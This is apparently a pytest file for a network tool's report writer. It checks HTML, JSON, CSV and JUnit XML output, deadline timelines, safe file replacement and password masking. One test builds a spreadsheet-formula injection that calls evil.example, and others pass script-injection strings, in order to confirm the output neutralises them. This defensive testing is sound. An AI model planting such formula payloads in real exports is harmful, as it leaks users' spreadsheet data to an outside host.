"""A report holds what the run's records hold, in four forms, and is there whole or not at all."""

from __future__ import annotations

import csv
import json
import os
import re
import resource
import stat
import tracemalloc
from collections import Counter
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from html import unescape
from pathlib import Path

import pytest
from lxml import etree

from agent.fleet.report.document import check_path, write
from agent.fleet.report.shown import shown, word
from agent.fleet.report.timeline import Deadlines, When
from agent.fleet.results.record import DeviceRecord, Kind, RunRecord
from agent.fleet.results.structs import Error
from agent.model.errors import FileError, InputError
from tests.cli.schemas import check
from tests.fleet.records import HOSTILE, MEGABYTE, NOW, counted, devices, hostile, run, unended

FORMS = (".html", ".json", ".csv", ".xml")
# Characters that no reader of text should meet: C0 beside line ends, C1, bidi controls, surrogates.
ACTING = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff\ufffe\uffff]")


def written(
    folder: Path, form: str, made: Iterator[DeviceRecord] | list[DeviceRecord], of: RunRecord | None = None
) -> str:
    path = folder / f"report{form}"
    write(path, of or run(), made, now=NOW)
    return path.read_text(encoding="utf-8")


def rows(page: str) -> list[dict[str, object]]:
    """What the page carries for its script."""
    found = re.search(r'<script type="application/json" id="rows">(.*?)</script>', page, re.DOTALL)
    assert found is not None
    carried: list[dict[str, object]] = json.loads(found[1])
    return carried


@pytest.mark.parametrize("kind", [Kind.ASSESS, Kind.PLAN, Kind.PUSH])
def test_json_is_as_its_schema_and_the_commands_say(kind: Kind, tmp_path: Path) -> None:
    made = [*devices(60, kind), unended("doubtful", "d1"), unended("waiting", "w1")]
    told = json.loads(written(tmp_path, ".json", made, run(kind, counts=counted(iter(made)))))
    check("report", told)
    assert told["run"]["change_ref"] == "CHG0042317"
    assert [device["device"] for device in told["devices"]] == [device.device for device in made]
    assert sum(told["run"]["counts"].values()) == len(made)
    for device in told["devices"][:60]:
        check(kind.value, device["result"])
    assert [device["result"] for device in told["devices"][60:]] == [None, None]


def test_the_counts_of_the_run_of_its_sites_and_groups_are_in_it(tmp_path: Path) -> None:
    made = [
        device.evolve(site=("London", "Paris")[number % 2], groups=("core",) if number % 3 else ())
        for number, device in enumerate(devices(30, Kind.ASSESS))
    ]
    told = json.loads(written(tmp_path, ".json", made))
    check("report", told)
    counts = told["summary"]
    need = sum(not device.well for device in made)
    assert (counts["total"]["routers"], counts["total"]["look"]) == (30, need)
    assert sum(counts["total"]["in_need"].values()) == need == sum(not device["well"] for device in told["devices"])
    assert [(name, tally["routers"]) for name, tally in counts["sites"].items()] == [("London", 15), ("Paris", 15)]
    assert counts["groups"]["core"]["routers"] == 20

    page = written(tmp_path, ".html", made)
    text = " ".join(unescape(re.sub(r"<[^>]*>", " ", page.partition("<main>")[2])).split())
    assert f"{need} in need, by the next licensing deadline: " in text
    assert "By site and group" in text
    assert re.search(r"London 15 \d+ \d+ 0 ", text)
    assert "First: " in text
    (first, *_) = counts["soonest"]
    assert f"First: {first['device']} (" in text

    (suite,) = etree.fromstring(written(tmp_path, ".xml", made).encode())
    properties = {one.get("name"): one.get("value") for one in suite.iterfind("properties/property")}
    assert (properties["routers"], properties["in_need.unknown"]) == ("30", str(counts["total"]["in_need"]["unknown"]))
    (line, *_) = csv.DictReader(written(tmp_path, ".csv", made).splitlines())
    assert (line["site"], line["groups"], line["in_need"]) == ("London", "", "no" if made[0].well else "yes")


def test_json_cuts_nothing(tmp_path: Path) -> None:
    (device,) = json.loads(written(tmp_path, ".json", [hostile()]))["devices"]
    assert device["device"] == HOSTILE
    assert device["steps"][0]["detail"] == MEGABYTE
    assert "hunter2" not in device["reasons"][0]


def test_csv_has_a_line_a_router(tmp_path: Path) -> None:
    made = list(devices(60, Kind.ASSESS))
    text = written(tmp_path, ".csv", made).encode().decode()
    lines = (tmp_path / "report.csv").read_bytes().split(b"\r\n")
    assert len(lines) == len(made) + 2
    assert lines[-1] == b""
    told = list(csv.DictReader(text.splitlines(), strict=True))
    assert [(line["device"], line["word"], line["release"]) for line in told] == [
        (device.device, device.word, device.release or "") for device in made
    ]
    assert told[0]["unregistered"] == f"{made[0].deadlines['unregistered']:%Y-%m-%dT%H:%M:%SZ}"
    away = next(line for line in told if line["error"])
    assert (away["word"], away["error_kind"], away["error"]) == (
        "unknown",
        "connect",
        "no answer on port 830 within 30 s",
    )


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
def test_a_spreadsheet_calculates_no_cell(start: str, tmp_path: Path) -> None:
    formula = f'{start}HYPERLINK("http://evil.example/"&A1)'
    made = DeviceRecord(formula, "failed", address=formula, reasons=(formula,), error=Error("rpc-error", formula))
    (cells,) = csv.DictReader(written(tmp_path, ".csv", [made]).splitlines(), strict=True)
    assert all(cells[name].startswith("'") for name in ("device", "address", "reasons", "error"))
    assert cells["word"] == "failed"


def test_junit_tells_failures_from_errors_and_skips(tmp_path: Path) -> None:
    made = [*devices(5), *devices(2, Kind.ASSESS), unended("doubtful", "d1"), unended("waiting", "w1")]
    text = written(tmp_path, ".xml", made, run(counts=counted(iter(made))))
    (suite,) = etree.fromstring(text.encode())
    assert (suite.tag, suite.get("name"), suite.get("hostname")) == (
        "testsuite",
        "20261125-113000-7f3a",
        "noc1.example",
    )
    cases = suite.findall("testcase")
    told = {"failure": 0, "error": 0, "skipped": 0, "system-out": 0}
    for device, case in zip(made, cases, strict=True):
        assert (case.get("name"), case.get("classname")) == (device.device, "push")
        wanted = {"failed": "failure", "affected": "failure", "unknown": "error", "doubtful": "error"}
        wanted |= {"skipped": "skipped", "waiting": "skipped"}
        inside = [element.tag for element in case]
        expected = [wanted[device.word]] if device.word in wanted else ["skipped"] if device.passing else []
        assert inside == expected + (["system-out"] if device.steps else [])
        for tag in inside:
            told[tag] += 1
    assert [suite.get(name) for name in ("tests", "failures", "errors", "skipped")] == [
        str(count) for count in (len(made), told["failure"], told["error"], told["skipped"])
    ]
    (failure,) = suite.findall("testcase[@name='fra-cr1']/failure")
    assert failure.get("type") == "lock-denied"
    assert failure.text == "the candidate is locked by session 4711\nend that session, then push again"


@pytest.mark.parametrize("form", [".html", ".csv", ".xml"])
def test_hostile_text_stays_text_and_short(form: str, tmp_path: Path) -> None:
    of = run(user=HOSTILE, host=HOSTILE, change_ref=HOSTILE, settings={HOSTILE: HOSTILE, "password": "hunter2"})
    text = written(tmp_path, form, [hostile()], of)
    assert not ACTING.search(unescape(text))
    assert "hunter2" not in text
    assert len(text) < 200_000
    assert "998,000 more characters" in text
    if form == ".xml":
        (case,) = etree.fromstring(text.encode()).iterfind(".//testcase")
        assert "<!-- ]]> &lt;" in case.get("name", "")


def test_hostile_text_ends_no_script_of_the_page(tmp_path: Path) -> None:
    page = written(tmp_path, ".html", [hostile(), *devices(4)])
    # The page's own three: the rows, the program; and none besides.
    assert re.findall(r"<script[^>]*>", page) == ['<script type="application/json" id="rows">', "<script>"]
    assert page.count("</script>") == 2
    assert "<!--" not in page
    assert "alert(1)" in str(rows(page)[0]["device"])


def test_the_page_needs_nothing_beside_it(tmp_path: Path) -> None:
    page = written(tmp_path, ".html", devices(5))
    assert re.findall(r'(?:src|href|action|srcset)="([^"]*)"', page) == ["data:,"]
    assert "@import" not in page
    assert "url(" not in page
    (policy,) = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]*)"', page)
    assert unescape(policy).startswith("default-src 'none'; ")
    assert "unsafe" not in policy


def test_a_deadline_that_a_remedied_router_passed_is_not_counted(tmp_path: Path) -> None:
    due = {"comm_failed": NOW - timedelta(days=10), "unregistered": NOW + timedelta(days=300)}
    made = [
        DeviceRecord("cured", "remedied", well=True, deadlines=due),
        DeviceRecord("hit", "affected", deadlines=due),
        DeviceRecord("past", "remedied", well=True, deadlines={"comm_failed": due["comm_failed"]}),
    ]
    page = written(tmp_path, ".html", made)
    told = {str(row["device"]): row for row in rows(page)}
    assert told["cured"]["next"] == "unregistered in 300 days"
    assert "next" not in told["past"]
    passed = re.search(r'data-deadline="comm failed" data-when="passed"[^>]*><strong>(\d+)</strong>', page)
    assert passed is not None
    assert passed[1] == "1"
    ahead = re.search(r'data-deadline="unregistered" data-when="later"[^>]*><strong>(\d+)</strong>', page)
    assert ahead is not None
    assert ahead[1] == "1", "only that of the router in need"


def test_the_page_counts_and_heads_what_the_records_say(tmp_path: Path) -> None:
    made = list(devices(200))
    page = written(tmp_path, ".html", made, run(settings={"method": "auto", "token": "env:TOKEN"}))
    text = " ".join(unescape(re.sub(r"<[^>]*>", " ", page.partition("<main>")[2])).split())
    look, passing = sum(not device.well for device in made), sum(device.passing for device in made)
    assert f"{look} of 200 routers need a look" in text
    assert f"{passing} have the root, and lose it at the next reload: import it into the trustpool" in text
    for name, count in Counter(word(device) for device in made).items():
        assert re.search(rf"\S {name} {count}\b", text)
    for fact in (
        "20261125-113000-7f3a",
        "CHG0042317",
        "ops@noc1.example",
        "2026-11-25 11:30 UTC",
        "12 min 4 s",
        "0.1.0",
    ):
        assert fact in page
    assert [row["device"] for row in rows(page)] == [device.device for device in made]


def test_a_run_without_routers_and_one_that_did_not_end_have_a_page(tmp_path: Path) -> None:
    page = written(tmp_path, ".html", [], run(ended=None, change_ref=None))
    assert "No router was in this run" in page
    assert "<dt>Ended</dt>" not in page
    assert rows(page) == []


def test_without_scripts_the_page_lists_who_needs_a_look(tmp_path: Path) -> None:
    page = written(tmp_path, ".html", devices(3000, Kind.ASSESS))
    listed = page.partition("<noscript>")[2].partition("</noscript>")[0]
    assert listed.count('<th scope="row">') == 200
    assert "the first 200 are:" in listed


@pytest.mark.parametrize("form", FORMS)
def test_routers_are_written_as_they_come(form: str, tmp_path: Path) -> None:
    def many() -> Iterator[DeviceRecord]:
        for number in range(4000):
            yield DeviceRecord(f"r{number}", "affected", reasons=(f"{number} " + "why " * 490,))

    write(tmp_path / f"report{form}", run(), devices(1), now=NOW)  # what is imported late is in memory now
    tracemalloc.start()
    try:
        write(tmp_path / f"report{form}", run(), many(), now=NOW)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert (tmp_path / f"report{form}").stat().st_size > 7_000_000
    assert peak < 3_000_000


@pytest.mark.parametrize("form", FORMS)
def test_the_file_replaces_the_old_one_and_may_be_read_as_the_umask_says(form: str, tmp_path: Path) -> None:
    target = tmp_path / "kept" / f"report{form}"
    target.parent.mkdir()
    target.write_text("old")
    link = tmp_path / f"latest{form}"
    link.symlink_to(target)
    before = os.umask(0o027)
    try:
        write(link, run(), devices(3), now=NOW)
    finally:
        os.umask(before)
    assert link.is_symlink()
    assert target.read_text() != "old"
    assert stat.S_IMODE(target.stat().st_mode) == 0o640
    assert [path.name for path in target.parent.iterdir()] == [target.name]


@pytest.mark.parametrize("form", FORMS)
def test_a_report_that_cannot_be_written_whole_leaves_the_old_one(form: str, tmp_path: Path) -> None:
    path = tmp_path / f"report{form}"
    path.write_text("old")
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (100_000, hard))
    try:
        with pytest.raises(FileError, match="was not written: File too large") as caught:
            write(path, run(), devices(1000), now=NOW)
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
    assert caught.value.hint is not None
    assert "journal" in caught.value.hint
    assert path.read_text() == "old"
    assert [left.name for left in tmp_path.iterdir()] == [path.name]


def test_nothing_is_left_where_the_records_end_in_an_error(tmp_path: Path) -> None:
    def broken() -> Iterator[DeviceRecord]:
        yield from devices(2)
        raise FileError("the journal is gone")

    with pytest.raises(FileError, match="the journal is gone"):
        write(tmp_path / "report.json", run(), broken(), now=NOW)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("name", ["report.pdf", "report", ".html", "report.html.gz"])
def test_another_ending_is_refused_before_and_after_the_run(name: str, tmp_path: Path) -> None:
    with pytest.raises(InputError, match="says no form") as caught:
        check_path(tmp_path / name)
    assert caught.value.hint == "end its name in .html, .json, .csv, .xml"
    with pytest.raises(InputError, match="says no form"):
        write(tmp_path / name, run(), devices(1), now=NOW)


def test_a_report_takes_the_place_of_no_file_that_the_run_goes_by(tmp_path: Path) -> None:
    hosts, link = tmp_path / "hosts.csv", tmp_path / "report.csv"
    hosts.write_text("host\nr1\n")
    link.symlink_to(hosts)
    for path in (hosts, link):
        with pytest.raises(InputError, match="would take the place of what --inventory names"):
            check_path(path, {"--known-hosts": tmp_path / "none", "--inventory": hosts})
    check_path(tmp_path / "report.html", {"--inventory": hosts})


def test_a_bad_place_is_found_before_the_run(tmp_path: Path) -> None:
    (tmp_path / "folder.html").mkdir()
    (tmp_path / "file").write_text("")
    os.mkfifo(tmp_path / "pipe.html")
    (tmp_path / "null.html").symlink_to("/dev/null")
    for path, message in (
        (tmp_path / "folder.html", "is a folder"),
        (tmp_path / "pipe.html", r"pipe\.html is no file"),
        (tmp_path / "null.html", r"null\.html is no file"),
        (tmp_path / "none" / "report.html", "does not exist"),
        (tmp_path / "file" / "report.html", "does not exist"),
        (Path("/proc/report.html"), "no report can be written to the folder /proc"),
    ):
        with pytest.raises(InputError, match=message):
            check_path(path)


def test_what_is_no_file_is_not_replaced_by_one(tmp_path: Path) -> None:
    """As root a file would take the place of /dev/null, for all others of the machine as well."""
    pipe = tmp_path / "report.json"
    os.mkfifo(pipe)
    with pytest.raises(FileError, match=r"report\.json was not written: it is no file"):
        write(pipe, run(), devices(1), now=NOW)
    assert stat.S_ISFIFO(pipe.stat().st_mode)
    assert list(tmp_path.iterdir()) == [pipe]


def test_the_check_leaves_nothing_and_touches_nothing(tmp_path: Path) -> None:
    check_path(tmp_path / "REPORT.HTML")
    assert list(tmp_path.iterdir()) == []
    (tmp_path / "report.csv").write_text("old")
    check_path(tmp_path / "report.csv")
    assert (tmp_path / "report.csv").read_text() == "old"


def test_a_password_is_masked_before_text_is_cut() -> None:
    assert shown(f"{'x' * 90} http://ops:{'hunter2' * 9}@ca", 120) == f"{'x' * 90} http://ops:***@ca"


@pytest.mark.parametrize(
    "away, when",
    [
        (timedelta(days=-400), When.PASSED),
        (timedelta(seconds=-1), When.PASSED),
        (timedelta(0), When.WEEK),
        (timedelta(days=6, hours=23), When.WEEK),
        (timedelta(days=7), When.MONTH),
        (timedelta(days=27, hours=23), When.MONTH),
        (timedelta(days=28), When.LATER),
        (timedelta(days=9000), When.LATER),
    ],
)
def test_a_deadline_is_counted_by_how_far_off_it_is(away: timedelta, when: When) -> None:
    deadlines = Deadlines(NOW)
    assert deadlines.add("unregistered", NOW + away) is when
    timeline = deadlines.timeline()
    assert timeline is not None
    (lane,) = timeline.lanes
    (bar,) = lane.bars
    assert (lane.after, lane.counts[when], bar.count, bar.when) == (365, 1, 1, when)
    # Today's mark stands between what passed and what comes, and everything is on the line.
    assert bar.x + bar.width <= timeline.today + 1e-9 if when is When.PASSED else bar.x >= timeline.today - 1e-9
    assert bar.x >= 0
    assert bar.x + bar.width <= 100 + 1e-9


def test_ten_thousand_deadlines_are_drawn_in_at_most_eighty_bars_a_line() -> None:
    deadlines = Deadlines(NOW)
    for number in range(10_000):
        deadlines.add("comm_failed", NOW + timedelta(days=number - 5000))
    timeline = deadlines.timeline()
    assert timeline is not None
    (lane,) = timeline.lanes
    assert len(lane.bars) == 80
    assert sum(bar.count for bar in lane.bars) == 10_000
    assert [(bar.days, bar.edge) for bar in (lane.bars[0], lane.bars[-1])] == [
        ("2026-06-03 or before", True),
        ("2027-12-01 or later", True),
    ]
    # The outermost hold years; they do not make the others too low to be seen.
    assert min(bar.height for bar in lane.bars) == 1.0


def test_months_are_where_they_begin() -> None:
    deadlines = Deadlines(datetime(2026, 11, 25, 23, 59, tzinfo=UTC))
    deadlines.add("unregistered", NOW + timedelta(days=364))
    timeline = deadlines.timeline()
    assert timeline is not None
    assert [tick.label for tick in timeline.ticks[:4]] == ["Nov", "Dec", "2027", "Feb"]
    first = datetime(2026, 11, 25, 23, 59, tzinfo=UTC) - timedelta(weeks=4)
    span = timedelta(weeks=4 + 52)
    for tick, month in zip(timeline.ticks, (date(2026, 11, 1), date(2026, 12, 1), date(2027, 1, 1)), strict=False):
        begins = datetime(month.year, month.month, 1, tzinfo=UTC)
        assert tick.x == pytest.approx(100 * ((begins - first) / span))


def test_no_deadlines_no_time_line(tmp_path: Path) -> None:
    assert Deadlines(NOW).timeline() is None
    assert "Licensing deadlines" not in written(tmp_path, ".html", devices(5))
    assert "Licensing deadlines" in written(tmp_path, ".html", devices(5, Kind.ASSESS))


def test_an_old_clock_makes_no_negative_time(tmp_path: Path) -> None:
    (device,) = devices(1)
    set_back = device.evolve(began=NOW, ended=NOW - timedelta(hours=1))
    (case,) = etree.fromstring(written(tmp_path, ".xml", [set_back]).encode()).iterfind(".//testcase")
    assert case.get("time") == "0.000"
